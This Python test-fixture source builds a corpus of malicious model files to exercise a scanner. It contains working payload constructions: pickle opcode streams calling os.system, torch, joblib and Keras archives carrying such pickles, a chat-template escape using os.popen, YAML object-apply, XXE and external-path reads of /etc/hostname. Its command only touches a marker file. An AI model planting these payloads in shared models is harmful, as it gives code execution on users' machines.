"""Files that would run something when they are loaded, or read or write files that they name.

What one does is at most to touch a marker file in the temporary folder. None is ever loaded here.
"""

from __future__ import annotations

import bz2
import gzip
import lzma
import pickle
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any

import numpy as np
import torch
from torch import nn

import model_makers as make
from zoo_makers import Writer, as_bytes, folder_, joblib_, json_, npy_, npz_, safetensors_, scripted_, tar_, torch_

COMMAND = "touch /tmp/vestige-zoo-marker"

#: Functions that run their argument, or reach files, processes or the network; one a line: module, name.
CALLS = Path(__file__).with_name("zoo_calls.txt").read_text("utf-8").splitlines()


class Call:
    """Pickles as a call of ``function(*arguments)``."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.parts = function, arguments

    def __reduce__(self) -> tuple[Any, ...]:
        return self.parts


def call(module: str, name: str) -> bytes:
    """A pickle of protocol 2 that calls a function with the command."""
    return (
        b"\x80\x02"
        + f"c{module}\n{name}\n".encode()
        + b"X"
        + struct.pack("<I", len(COMMAND))
        + COMMAND.encode()
        + b"\x85R."
    )


def _system() -> Call:
    import os

    return Call(os.system, COMMAND)


EVIL = call("posix", "system")
OLD = f"cos\nsystem\n(S'{COMMAND}'\ntR.".encode()


class _Saves(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        torch.save(x, "/tmp/vestige-zoo-marker")
        return x


LAMBDA = make.layer("Lambda", {"function": {"class_name": "__lambda__", "config": {"code": "4wAAAAAA"}}})
LEGACY_LAMBDA = {
    "class_name": "Sequential",
    "config": {
        "name": "s",
        "layers": [
            {
                "class_name": "Lambda",
                "config": {"name": "l", "function": ["4wAA", None, None], "function_type": "lambda"},
            }
        ],
    },
}
ESCAPE = "{{ cycler.__init__.__globals__.os.popen('" + COMMAND + "').read() }}"


def _function(module: str, name: str) -> dict[str, Any]:
    made = {"module": module, "class_name": "function", "config": name, "registered_name": name}
    return make.sequential(make.layer("Dense", {"units": 1, "activation": made}))


def dangerous() -> dict[str, Writer]:
    """{name: writer} of files that would run something, or read or write files that they name."""
    files: dict[str, Writer] = {}
    for module, name in map(str.split, CALLS):
        files[f"call_{module}.{name}.pkl"] = as_bytes(call(module, name))
    system, zipped = _system(), make.archive
    for protocol in range(6):
        files[f"protocol_{protocol}.pkl"] = as_bytes(pickle.dumps([1, {"a": system}], protocol))
    weights, array = torch.ones(3, 4), np.arange(100.0)
    text = lambda value: b"\x8c" + bytes([len(value)]) + value.encode()  # noqa: E731
    argument = text(COMMAND) + b"\x85"
    opcodes = {
        "stack_global": b"\x80\x04" + text("os") + text("system") + b"\x93" + argument + b"R.",
        "memo": b"\x80\x04" + text("system") + b"\x940" + text("os") + b"h\x00\x93" + argument + b"R.",
        "inst": f"(S'{COMMAND}'\nios\nsystem\n.".encode(),
        "obj": b"\x80\x02(cos\nsystem\n" + argument[:-1] + b"o.",
        "newobj": b"\x80\x02cos\nsystem\n" + argument + b"\x81.",
        "newobj_ex": b"\x80\x04cos\nsystem\n" + argument + b"}\x92.",
        "build": b"\x80\x02cbuiltins\ngetattr\ncos\nsystem\n" + argument + b"R}b.",
        "hex_integer": b"I0x1\n0" + OLD,
        "second_pickle": b"\x80\x04}." + OLD,
        "long_frame": b"\x80\x04\x95" + bytes([99] * 8) + OLD,
        "broken_after": b"\x80\x02cos\nsystem\n" + argument + b"R\xff\xff",
        "escaped": f"S'o\\x73'\nS'system'\n\x93(S'{COMMAND}'\ntR.".encode("latin-1"),
        "bytes_inside": b"\x80\x04ctorch.storage\n_load_from_bytes\nB"
        + struct.pack("<I", len(EVIL))
        + EVIL
        + b"\x85R.",
        "many_before": b"\x80\x02" + b"N0" * 5000 + EVIL[2:],
        "python2": b"\x80\x02c__builtin__\nexecfile\n" + argument + b"R.",
    }
    files |= {f"opcodes_{name}.pkl": as_bytes(data) for name, data in opcodes.items()}
    files |= {
        "torch_zip.pt": as_bytes(lambda: torch_({"w": weights, "x": system})),
        "torch_legacy.pth": as_bytes(lambda: torch_({"w": weights, "x": system}, _use_new_zipfile_serialization=False)),
        "torch_deflated.ckpt": as_bytes(zipped(("a/data.pkl", EVIL), method=zipfile.ZIP_DEFLATED)),
        "torch_bomb.pt": as_bytes(
            zipped(("a/data.pkl", b"\x80\x02" + b"N0" * 200_000 + EVIL[2:]), method=zipfile.ZIP_DEFLATED)
        ),
        "torch_upper.pt": as_bytes(zipped(("a/DATA.PKL", EVIL))),
        "torch_other_name.pt": as_bytes(zipped(("a/data.pkl", b"N."), ("a/extra/x", EVIL))),
        "torch_checksum.pt": as_bytes(lambda: _broken_checksum(zipped(("a/data.pkl", EVIL)))),
        "torch_encrypted_flag.pt": as_bytes(lambda: _encrypted(zipped(("a/data.pkl", EVIL)))),
        "torch_appended.pt": as_bytes(zipped(("a/data.pkl", b"N."), ("a/data.pkl.bak.pkl", EVIL))),
        "torch_tar.pt": as_bytes(tar_(pickle=EVIL, storages=b"N.", tensors=b"N.")),
        "named.bin": as_bytes(EVIL),
        "named.safetensors": as_bytes(EVIL),
        "named.h5": as_bytes(EVIL),
        "named.onnx": as_bytes(OLD),
        "named.npy": as_bytes(EVIL),
        "named.gguf": as_bytes(EVIL),
        "after_array.joblib": as_bytes(lambda: joblib_([array, system])),
        "object_array.joblib": as_bytes(lambda: joblib_(np.array([system], object))),
        "gzip.pkl": as_bytes(gzip.compress(EVIL)),
        "zlib.joblib": as_bytes(zlib.compress(EVIL)),
        "bz2.pkl.bz2": as_bytes(bz2.compress(EVIL)),
        "xz.joblib": as_bytes(lzma.compress(EVIL)),
        "compressed.joblib": as_bytes(lambda: joblib_([array, system], 3)),
        "objects.npy": as_bytes(lambda: npy_(np.array([system], object))),
        "objects.npz": as_bytes(lambda: npz_(a=np.array([system], object))),
        "objects_compressed.npz": as_bytes(lambda: npz_(True, a=np.array([system], object))),
        "long_header.npy": as_bytes(lambda: _long_header()),
        "lambda.keras": as_bytes(lambda: make.keras(make.sequential(LAMBDA))),
        "lambda_nested.keras": as_bytes(
            lambda: make.keras(make.sequential(make.layer("TimeDistributed", {"layer": LAMBDA})))
        ),
        "lambda.h5": as_bytes(lambda: make.hdf5({"model_config": json_(make.sequential(LAMBDA))})),
        "lambda_legacy.h5": as_bytes(lambda: make.hdf5({"model_config": json_(LEGACY_LAMBDA)})),
        "lambda.json": as_bytes(json_(LEGACY_LAMBDA)),
        "module.keras": as_bytes(lambda: make.keras(_function("os", "system"))),
        "get_file.keras": as_bytes(lambda: make.keras(_function("keras.utils", "get_file"))),
        "unsafe.keras": as_bytes(lambda: make.keras(_function("keras.config", "enable_unsafe_deserialization"))),
        "vocabulary.keras": as_bytes(
            lambda: make.keras(make.sequential(make.layer("StringLookup", {"vocabulary": "/etc/hostname"})))
        ),
        "torch_module.keras": as_bytes(lambda: make.keras(make.sequential(make.layer("TorchModuleWrapper")))),
        "pickle_inside.keras": as_bytes(lambda: make.keras(make.sequential(make.DENSE), None, ("x.pkl", EVIL))),
        "weights_link.keras": as_bytes(
            lambda: make.keras(make.sequential(make.DENSE), make.hdf5(outside="/etc/hostname"))
        ),
        "link.h5": as_bytes(lambda: make.hdf5(outside="/etc/hostname")),
        "elsewhere.h5": as_bytes(lambda: make.hdf5(elsewhere=True)),
        "absolute.onnx": as_bytes(
            make.onnx([make.onnx_node("Relu")], [make.onnx_tensor("w", location="/etc/hostname")])
        ),
        "parent.onnx": as_bytes(make.onnx([make.onnx_node("Relu")], [make.onnx_tensor("w", location="../../x")])),
        "python.onnx": as_bytes(make.onnx([make.onnx_node("PyOp", "ai.onnx.contrib")])),
        "template.gguf": as_bytes(make.gguf({"tokenizer.chat_template": ESCAPE})),
        "read_file.pb": as_bytes(make.saved_model(["MatMul", "ReadFile"])),
        "frozen_write.pb": as_bytes(make.graph_def(["Placeholder", "WriteFile"])),
        "save.pt": as_bytes(lambda: scripted_(_Saves())),
        "system.skops": as_bytes(
            zipped(
                (
                    "schema.json",
                    json_({"__class__": "system", "__module__": "os", "__loader__": "ObjectNode", "content": {}}),
                )
            )
        ),
        "entity.pmml": as_bytes(
            b'<!DOCTYPE p [<!ENTITY e SYSTEM "file:///etc/hostname">]><PMML><Header>&e;</Header></PMML>'
        ),
        "folder_hidden": folder_(**{"config.json": "{}", ".cache/x": EVIL}),
        "folder_readme": folder_(**{"config.json": "{}", "README.md": OLD}),
        "folder_optimizer": folder_(
            **{"config.json": "{}", "model.safetensors": safetensors_(w=weights), "optimizer.pt": EVIL}
        ),
        "folder_template": folder_(**{"config.json": "{}", "tokenizer_config.json": json_({"chat_template": ESCAPE})}),
        "folder_jinja": folder_(**{"config.json": "{}", "chat_template.jinja": ESCAPE}),
        "folder_yaml": folder_(
            **{"config.json": "{}", "hparams.yaml": f"x: !!python/object/apply:os.system ['{COMMAND}']"}
        ),
        "folder_target": folder_(**{"config.json": json_({"model": {"_target_": "os.system"}})}),
        "folder_saved_model": folder_(**{"saved_model.pb": make.saved_model(["MatMul"], {"f": ["PyFunc"]})}),
        "folder_keras_metadata": folder_(
            **{
                "saved_model.pb": make.saved_model(["MatMul"]),
                "keras_metadata.pb": make.field(1, make.field(2, 0) + make.field(5, json_(LEGACY_LAMBDA))),
            }
        ),
        "folder_diffusers": folder_(
            **{"model_index.json": '{"_class_name": "X"}', "unet/diffusion_pytorch_model.bin": EVIL}
        ),
    }
    return files


def _broken_checksum(data: bytes) -> bytes:
    broken = bytearray(data)
    broken[14] ^= 255
    broken[data.rindex(b"PK\x01\x02") + 16] ^= 255
    return bytes(broken)


def _encrypted(data: bytes) -> bytes:
    flagged = bytearray(data)
    flagged[6] |= 1
    flagged[data.rindex(b"PK\x01\x02") + 8] |= 1
    return bytes(flagged)


def _long_header() -> bytes:
    table = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,)}".rjust(70_000)
    return b"\x93NUMPY\x02\x00" + struct.pack("<L", len(table)) + table + EVIL
